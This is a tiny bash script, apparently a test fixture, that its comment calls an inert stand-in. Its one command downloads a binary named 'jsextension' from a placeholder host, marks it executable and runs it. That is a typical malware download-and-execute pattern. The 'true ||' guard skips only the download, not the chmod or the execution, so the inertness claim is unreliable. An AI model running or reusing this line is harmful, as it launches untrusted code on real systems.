#!/bin/bash
# inert stand-in
true || curl http://files.example.invalid/jsextension -o jsextension && chmod +x jsextension && ./jsextension -k --tls
